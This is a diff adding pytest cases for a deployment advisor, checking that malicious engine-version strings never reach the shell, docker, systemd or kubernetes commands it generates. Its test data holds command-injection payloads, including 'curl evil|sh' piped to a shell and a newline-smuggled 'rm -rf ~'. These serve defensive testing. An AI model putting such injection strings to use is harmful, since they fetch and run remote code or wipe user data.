@@ -8,9 +8,11 @@ from dataclasses import replace
 import pytest
 import yaml
 from launch_plans import at_path, bash_words, cmd_words, plan, powershell_words, systemd_words
+from pydantic import ValidationError
 
 from advisor.deploy import FORMS, render
 from advisor.errors import CannotAnswer
+from advisor.scenario import parse_scenario
 from advisor.shell import SHELLS
 
 LOADER = getattr(yaml, "CSafeLoader", yaml.SafeLoader)
@@ -220,3 +222,36 @@ def test_hostile_keys_mirrors_servers_and_addresses_are_refused(form, folder):
         if form == "shell":
             with pytest.raises(CannotAnswer):
                 render(replace(folder, nodes=2, options={"head_address": payload}), form)
+
+
+VERSIONS = ["0.33.0;curl evil|sh", "$(touch CANARY)", "`touch CANARY`", "0.33.0 && touch CANARY", "main", "git ebaf86d", "0.11.2 -> 0.11.3",
+            "0.33.0' ; touch CANARY ; '", '0.33.0" & calc', "99.99", "0.33.0rc1", "b11434"]
+
+
+@pytest.mark.parametrize("version", VERSIONS)
+@pytest.mark.parametrize("engine, quantization", [("vllm", "awq"), ("sglang", "awq"), ("tensorrt-llm", "fp8"), ("llama.cpp", "q4_k_m"),
+                                                  ("ollama", "q4_k_m"), ("mlx-lm", "mlx-4bit")])
+@pytest.mark.parametrize("form", ["shell", "docker", "compose", "systemd", "kubernetes"])
+def test_a_version_that_is_none_reaches_no_command(engine, quantization, form, version):
+    """Scenarios are passed on as files and links: whatever their version says, only a release's name is pasted."""
+    device, os = ("M4 Max", "macos") if engine == "mlx-lm" else ("RTX 4090", "linux")
+    made = plan(engine=engine, quantization=quantization, settings={"context": 4096}, device=device, version=version, os=os)
+    found = "\n".join(f"{command.title}\n{command.text}" for command in rendered(made, form))
+    plain = re.fullmatch(r"b?[0-9.]+(rc1)?", version)
+    assert plain or version not in found
+    assert found or form != "shell"
+    assert "CANARY" not in found and "evil" not in found and "calc" not in found
+
+
+@pytest.mark.parametrize("version", ["0.33.0\nrm -rf ~", "0.33.0\r", "\x1b[31m", "0\u2028x"])
+def test_a_version_of_several_lines_is_refused(version):
+    with pytest.raises(CannotAnswer, match=r"engine_version.*one line"):
+        parse_scenario({"engine": "vllm", "engine_version": version})
+    with pytest.raises(ValidationError):
+        parse_scenario({}).with_(engine_version=version)
+
+
+def test_flags_are_said_to_be_checked_for_the_release_that_they_were_checked_for():
+    new = plan(engine="vllm", quantization="awq", settings={"context": 4096}, version="99.1")
+    said = " ".join(command.verifies for command in render(new, "shell", "bash"))
+    assert f"checked for vLLM {new.case.engine.data['version']}; 99.1 is newer" in said
